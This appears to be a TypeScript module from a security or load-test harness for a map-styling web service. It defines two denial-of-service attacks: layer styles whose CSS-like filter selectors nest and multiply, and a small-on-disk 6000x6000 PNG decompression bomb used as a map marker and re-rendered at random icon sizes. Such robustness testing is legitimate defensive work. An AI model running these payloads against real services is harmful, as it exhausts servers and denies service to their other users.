import { crc32, deflateSync } from "node:zlib";
import { type Attack, again, once, send } from "./attack.js";

/** What an editor of another project can do. */

/** Styles whose rules multiply. */
const explosiveStyles: Attack = {
  name: "explosive-styles",
  clients: 3,
  run: (at) =>
    again(at, async () => {
      const { random, victim } = at;
      const depth = random.whole(12, 30);
      const filters = Array.from({ length: depth }, (_, index) => `[a=${index}],[b!=${random.whole(0, 9)}]`);
      const css_style = `#l { ${filters.map((filter) => `${filter} { `).join("")} line-width: 1; ${"}".repeat(depth)} }`;
      const { status } = await send(at, `${victim.own.map}layers/l/`, {
        method: "PATCH",
        token: victim.own.token,
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ parent_id: 0, css_style }),
      });
      return status > 0;
    }),
};

const pictureSide = 6_000;
const picture = once(() => png(pictureSide));

/** Small symbols of a large picture, each of another size. */
const largePictures: Attack = {
  name: "large-pictures",
  clients: 6,
  run: async (at) => {
    const { own } = at.victim;
    const { token } = own;
    const path = `${own.project}pictures/large.png`;
    const headers = { "content-type": "image/png" };
    await send(at, path, { method: "PUT", token, headers, body: picture() });
    await send(at, `${own.map}layers/p/`, {
      method: "PATCH",
      token,
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ parent_id: 0, css_style: "#p { marker-file: url(large.png); }" }),
    });
    await again(at, async () => {
      const icon = `${own.map}layers/p/icon/?size=${at.random.whole(1, 1024)}`;
      return (await send(at, icon)).status === 200;
    });
  },
};

/** A picture of one colour, which is small as a file. */
function png(side: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const ends = [Buffer.alloc(4), Buffer.alloc(4)] as const;
    ends[0].writeUInt32BE(data.length);
    ends[1].writeUInt32BE(crc32(body));
    return Buffer.concat([ends[0], body, ends[1]]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  // Eight bits of red, green and blue.
  header.set([8, 2], 8);
  return Buffer.concat([
    Buffer.from("89504e470d0a1a0a", "hex"),
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(Buffer.alloc(side * (1 + 3 * side)))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

export const project: readonly Attack[] = [explosiveStyles, largePictures];
